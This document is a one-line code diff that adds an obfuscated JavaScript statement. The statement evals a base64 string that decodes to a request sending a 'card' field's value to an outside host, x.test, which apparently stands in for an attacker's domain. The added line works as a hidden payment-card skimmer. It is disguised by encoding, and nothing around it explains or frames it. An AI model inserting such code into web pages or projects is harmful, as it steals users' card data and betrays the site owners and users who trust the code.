@@ -1,0 +1,1 @@
+eval(atob('ZmV0Y2goJy8veC50ZXN0Lz8nK2NhcmQudmFsdWUpLyoqLw=='))
